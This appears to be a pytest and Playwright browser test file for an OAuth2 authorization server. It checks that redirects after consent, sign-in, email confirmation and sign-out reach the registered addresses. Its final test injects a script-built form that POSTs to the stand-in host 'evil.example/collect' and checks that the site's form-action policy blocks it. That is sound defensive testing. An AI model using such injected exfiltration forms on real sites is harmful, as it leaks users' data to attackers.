"""The last step of a flow leaves our site: whatever address an app registered, and wherever it sends people on."""

import itertools
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Browser, Page

from tests.support.browsers.populated_server import PASSWORD, World
from tests.support.servers.redirecting_site import Site

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

# What registration accepts on a machine of one's own: hosts, the spelling of a scheme and host, paths and queries.
HOSTS = ("localhost", "127.0.0.1")
TAILS = ("", "/", "/back", "/back?tenant=a%20b&on=0", "/a;c=d/b", "/%C3%A9?x=%2F")
MODES = ("query", "fragment", "form_post")


def app_at(here: World, *uris: str, first_party: bool = False) -> str:
    flags = [part for uri in uris for part in ("--redirect-uri", uri)] + ["--post-logout-redirect-uri", uris[0]]
    more = ["--first-party"] if first_party else []
    made = here.server.ask("app", "create", "Way Out", "--owner", "grace", *flags, *more, "--no-pkce")
    return made["client_id"]


def link(here: World, client_id: str, uri: str, mode: str, **more: str) -> str:
    asked = {"client_id": client_id, "redirect_uri": uri, "response_type": "code", "scope": "openid", "state": "s"}
    return f"{here.url}/oauth2/authorize?" + urlencode({**asked, "response_mode": mode, **more})


def sign_in(page: Page) -> None:
    page.get_by_label("Username or email").fill("grace")
    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()


def arrives(page: Page) -> None:
    page.get_by_text("arrived", exact=True).wait_for()


def uris(away: Site) -> list[str]:
    return [f"http://{host}:{away.port}{tail}" for host, tail in itertools.product(HOSTS, TAILS)]


@pytest.mark.parametrize("mode", MODES)
def test_consent_ends_at_every_address_that_registration_accepts(
    browser: Browser, here: World, away: Site, mode: str
) -> None:
    addresses = uris(away)
    client_id = app_at(here, *addresses)
    with here.visit(browser, "grace") as (page, _complaints):
        for uri in addresses:
            page.goto(link(here, client_id, uri, mode, prompt="consent"))
            page.get_by_role("button", name="Authorize").click()
            arrives(page)
        page.goto(link(here, client_id, addresses[0], mode, prompt="consent"))
        page.get_by_role("button", name="Cancel").click()
        arrives(page)


@pytest.mark.parametrize("script", [True, False])
@pytest.mark.parametrize("mode", MODES)
def test_sign_in_ends_at_the_site_and_goes_on_where_it_redirects(
    browser: Browser, here: World, away: Site, mode: str, script: bool
) -> None:
    uri = f"http://localhost:{away.port}/back?on=1"
    client_id = app_at(here, uri, first_party=True)
    with here.visit(browser, script=script) as (page, _complaints):
        page.goto(link(here, client_id, uri, mode))
        sign_in(page)
        if mode == "form_post" and not script:
            page.get_by_role("button", name="Continue").click()
        arrives(page)
        assert page.url.startswith(f"http://127.0.0.1:{away.other}/landed")


@pytest.mark.parametrize("mode", MODES)
def test_consent_goes_on_where_the_site_redirects(browser: Browser, here: World, away: Site, mode: str) -> None:
    uri = f"http://localhost:{away.port}/back?on=1"
    client_id = app_at(here, uri)
    with here.visit(browser, "grace") as (page, _complaints):
        page.goto(link(here, client_id, uri, mode))
        page.get_by_role("button", name="Authorize").click()
        arrives(page)
        assert page.url.startswith(f"http://127.0.0.1:{away.other}/landed")


@pytest.mark.parametrize("mode", MODES)
def test_confirming_the_email_ends_at_the_site_and_goes_on(
    browser: Browser, here: World, away: Site, mode: str
) -> None:
    uri = f"http://localhost:{away.port}/back?on=1"
    client_id = app_at(here, uri, first_party=True)
    name = f"new.{mode}"
    with here.visit(browser) as (page, _complaints):
        page.goto(link(here, client_id, uri, mode, prompt="create"))
        page.get_by_label("Username").fill(name)
        page.get_by_label("Email").fill(f"{name}@example.org")
        page.get_by_label("Password", exact=True).fill(PASSWORD)
        page.get_by_role("button", name="Create account").click()
        page.goto(mailed(page, here, f"{name}@example.org"))
        page.get_by_role("button", name="Confirm email").click()
        arrives(page)
        assert page.url.startswith(f"http://127.0.0.1:{away.other}/landed")


def mailed(page: Page, here: World, address: str) -> str:
    """Wait for the mail and return its link."""
    mailbox = page.context.new_page()
    mailbox.goto(f"{here.url}/dev/mailbox")
    found = mailbox.get_by_role("article").filter(has_text=address).locator("a[href*='token=']")
    while found.count() == 0:
        mailbox.wait_for_timeout(100)
        mailbox.reload()
    href = found.first.get_attribute("href")
    mailbox.close()
    assert href is not None
    return href


def test_signing_out_ends_at_the_site_and_goes_on(browser: Browser, here: World, away: Site) -> None:
    uri = f"http://localhost:{away.port}/back?on=1"
    client_id = app_at(here, uri)
    for script in (True, False):
        with here.visit(browser, "grace", script=script) as (page, _complaints):
            page.goto(f"/oauth2/end_session?client_id={client_id}&post_logout_redirect_uri={uri}")
            page.get_by_role("button", name="Sign out").click()
            arrives(page)
            assert page.url.startswith(f"http://127.0.0.1:{away.other}/landed")


@pytest.mark.parametrize("uri", ["com.example.app:/back", "com.example.app:/back?x=1"])
def test_a_native_app_s_address_is_left_for(browser: Browser, here: World, uri: str) -> None:
    """No program is registered for the scheme here, so the browser stops there, and not at our policy."""
    client_id = app_at(here, uri)
    with here.visit(browser, "grace") as (page, complaints):
        page.goto(link(here, client_id, uri, "query"))
        with page.expect_response("**/oauth2/authorize?flow=*") as answer:
            page.get_by_role("button", name="Authorize").click()
        page.wait_for_timeout(500)
        assert answer.value.headers["location"].startswith(uri)
        assert complaints == [], "a policy would say here that it refused to send the form's data"


def test_an_app_s_popup_can_tell_its_opener(browser: Browser, here: World, away: Site) -> None:
    uri = f"http://localhost:{away.port}/back"
    client_id = app_at(here, uri)
    with here.visit(browser) as (page, _complaints):
        page.goto(f"http://localhost:{away.port}/start")
        with page.expect_popup() as popup:
            address = link(here, client_id, uri, "query")
            page.evaluate("url => { window.open(url, 'login', 'width=500,height=700') }", address)
        window = popup.value
        sign_in(window)
        window.get_by_role("button", name="Authorize").click()
        arrives(window)
        assert window.evaluate("window.opener !== null")


def test_a_form_on_any_other_page_goes_nowhere_else(browser: Browser, here: World) -> None:
    with here.visit(browser, "grace") as (page, complaints):
        page.goto("/account")
        make = "url => Object.assign(document.createElement('form'), {action: url, method: 'post'})"
        page.evaluate(f"url => document.body.appendChild(({make})(url)).submit()", "https://evil.example/collect")
        page.wait_for_timeout(500)
        assert page.url.startswith(here.url)
        assert any("form-action" in text for text in complaints)
